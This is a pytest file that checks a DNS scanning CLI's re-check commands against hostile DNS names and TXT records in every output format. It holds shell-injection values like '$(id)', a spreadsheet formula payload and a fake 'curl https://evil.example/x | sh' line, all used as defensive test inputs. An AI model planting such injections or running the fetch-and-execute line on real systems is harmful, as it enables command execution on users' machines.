"""Re-check commands survive hostile names in every scan format, and remote text cannot fake lines.

``inject.test`` (tests/data/world/zones) names MX, NS and SPF-include hosts whose labels hold
shell metacharacters, quotes, a space and a newline; its TXT records hold newlines, ANSI escapes,
a spreadsheet formula and a fake ``$ curl ... | sh`` line. The names travel through the real
pipeline (loopback DNS server, wire decoder, attribution, renderers); each format's commands are
read back as a person would (HTML-unescaped, CSV-parsed, JSON-decoded) and must split into exactly
the arguments dig needs, and a real shell must pass them to dig unchanged, running nothing else.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
import shlex
import shutil
import subprocess

import pytest
from click.testing import CliRunner

from souverain.cli.main import cli
from souverain.report import terminal

DOMAIN = "inject.test"
# names as the decoder gives them -> the argument dig needs (a leading - + @ escaped as \DDD)
DIG_NAME = {"+sum.inject-spf.test": r"\043sum.inject-spf.test", "-ns.inject.test": r"\045ns.inject.test",
            "@ns.inject.test": r"\064ns.inject.test"}
# MX and NS hosts under inject.test; SPF include targets under inject-spf.test (third-party senders:
# the domain's own names are not reported as senders)
# (the MX hosts `id` and p|id have no address: no dependency cites them, JSON still lists them)
HOSTILE = {"a&id&b.inject.test", "ns;id;x.inject.test",
           r"new\010line.inject.test", r"sp\032ace.inject.test", r"\045ns.inject.test", r"\064ns.inject.test",
           "a&id&b.inject-spf.test", "s;id;x.inject-spf.test", "$(id).inject-spf.test", "`id`.inject-spf.test",
           "p|id.inject-spf.test", "q'x\"y.inject-spf.test", "=1+2.inject-spf.test", r"\043sum.inject-spf.test"}
FAKE_LINES = ("EXPOSED: fake line", "$ curl https://evil.example", "FAKE")
CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f]")
SHELLS = [shell for shell in ("sh", "bash", "zsh") if shutil.which(shell)]


@pytest.fixture(scope="module")
def outputs(world_dns) -> dict[str, str]:
    runner = CliRunner()
    found = {}
    for fmt in ("table", "json", "csv", "sarif", "html"):
        result = runner.invoke(cli, ["scan", DOMAIN, "--nameserver", f"127.0.0.1:{world_dns.port}", "--timeout", "0.3",
                                     "--functions", "mail,dns", "--no-store", "--quiet", "--format", fmt, "-v"])
        assert result.exit_code == 0, result.output
        found[fmt] = result.output
    return found


@pytest.fixture(scope="module")
def intended(outputs, world_dns) -> dict[str, set[tuple[str, ...]]]:
    """The argument lists each format must show: every evidence item (JSON), or the items the
    dependencies cite (the other formats; SARIF lists exposed and unknown dependencies only),
    built here from the evidence's name and type."""
    data = json.loads(outputs["json"])
    cited = {e for d in data["dependencies"] for e in d["evidence"]}
    in_sarif = {e for d in data["dependencies"] if d["foreign_laws"] or d["status"] == "unknown" for e in d["evidence"]}

    def argv(item: dict) -> tuple[str, ...]:
        name = DIG_NAME.get(item["subject"], item["subject"])
        return ("dig", "@127.0.0.1", "-p", str(world_dns.port), name, item["detail"]["rdtype"])

    items = data["evidence"][DOMAIN]
    return {"all": {argv(i) for i in items}, "cited": {argv(i) for i in items if i["id"] in cited},
            "sarif": {argv(i) for i in items if i["id"] in in_sarif}}  # SARIF: exposed and unknown ones


def commands(fmt: str, text: str) -> list[str]:
    """The re-check commands as they appear in one output format, decoded as a reader would."""
    if fmt == "json":
        return [item["recheck"] for item in json.loads(text)["evidence"][DOMAIN] if item["recheck"]]
    if fmt == "sarif":
        return [c for r in json.loads(text)["runs"][0]["results"] for c in r["properties"]["recheck"]]
    if fmt == "csv":
        found = []
        for row in csv.DictReader(io.StringIO(text)):
            tokens = shlex.split(row["recheck"])  # the cell is one shell line: commands joined by " ; "
            found += [shlex.join(part) for part in _split_on(tokens, ";")]
        return found
    if fmt == "html":
        blocks = re.findall(r"<pre>(.*?)</pre>", text, flags=re.DOTALL)
        return [line[2:] for block in blocks for line in html.unescape(block).split("\n") if line.startswith("$ ")]
    section = text.split("\nRe-check\n", 1)[1]
    return [m.group(1) for m in re.finditer(r"^\s+e\d+\s+\$ (.*)$", section, flags=re.MULTILINE)]


def _split_on(tokens: list[str], separator: str) -> list[list[str]]:
    parts: list[list[str]] = [[]]
    for token in tokens:
        if token == separator:
            parts.append([])
        else:
            parts[-1].append(token)
    return [p for p in parts if p]


@pytest.mark.parametrize("fmt", ["table", "json", "csv", "sarif", "html"])
def test_every_format_gives_commands_that_split_into_the_intended_arguments(outputs, intended, fmt):
    found = {tuple(shlex.split(command)) for command in commands(fmt, outputs[fmt])}
    assert found == intended[{"json": "all", "sarif": "sarif"}.get(fmt, "cited")]
    # SARIF lists exposed and unknown dependencies only: the unknown third-party senders there
    hostile = {h for h in HOSTILE if h.endswith(".inject-spf.test")} if fmt == "sarif" else HOSTILE
    assert hostile <= {argv[4] for argv in found}, sorted(hostile - {argv[4] for argv in found})


@pytest.mark.skipif(not SHELLS, reason="no POSIX shell")
@pytest.mark.parametrize("shell", SHELLS)
def test_a_shell_passes_the_arguments_unchanged_and_runs_nothing_else(outputs, intended, shell, tmp_path):
    """Pasted into a real shell (dig replaced by a function printing its arguments), each command
    gives dig exactly the intended arguments; an injected ``id`` or ``rm`` would print or fail."""
    lines = {c for fmt in ("table", "json", "csv", "sarif", "html") for c in commands(fmt, outputs[fmt])}
    lines |= {row["recheck"] for row in csv.DictReader(io.StringIO(outputs["csv"]))}  # whole cells too
    script = "\n".join(['dig() { printf "%s\\0" dig "$@"; printf "\\n"; }', *sorted(lines), ""])
    result = subprocess.run([shell, "-c", script], capture_output=True, text=True, cwd=tmp_path, timeout=30, check=False)
    assert result.returncode == 0 and not result.stderr, result.stderr
    printed = {tuple(line.split("\0")[:-1]) for line in result.stdout.split("\n") if line}
    assert printed == intended["all"]
    assert not list(tmp_path.iterdir())


def test_csv_rows_are_one_line_each_and_formulas_are_neutralised(outputs):
    text = outputs["csv"]
    rows = list(csv.reader(io.StringIO(text)))
    assert len(text.splitlines()) == len(rows)  # no row broken by a newline from a TXT record
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if CONTROL.search(c)]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    subjects = {row["subject"] for row in csv.DictReader(io.StringIO(text))}
    assert {"'=1+2.inject-spf.test", "'+sum.inject-spf.test", "'-ns.inject.test", "'@ns.inject.test"} <= subjects
    token = next(s for s in subjects if s.startswith("google-site-verification="))
    assert token == r"google-site-verification=tok\010EXPOSED: fake line,=cmd|' /C calc'!A0\010$ curl https://evil.example/x | sh"


def test_no_fake_line_in_the_terminal_or_the_html_evidence(outputs):
    assert "\x1b" not in outputs["table"]
    assert not [line for line in outputs["table"].splitlines() if line.lstrip("│ ").startswith(FAKE_LINES)]
    blocks = re.findall(r"<pre>(.*?)</pre>", outputs["html"], flags=re.DOTALL)
    lines = [line for block in blocks for line in html.unescape(block).split("\n")]
    assert any("google-site-verification=tok" in line for line in lines)  # the TXT record is shown...
    assert not [line for line in lines if line.startswith(FAKE_LINES)]  # ...on its own line
    assert not [line for line in lines if CONTROL.search(line)]


def test_terminal_cells_show_control_characters_as_escapes():
    out = terminal.render(terminal.table(["a", "b"], [("x\nEXPOSED: fake", "\x1b[31mred\u202e")]), width=100)
    assert "\x1b" not in out and "\u202e" not in out
    assert r"x\010EXPOSED: fake" in out and r"\027[31mred\u202e" in out
    assert not [line for line in out.splitlines() if line.lstrip("│ ").startswith("EXPOSED")]
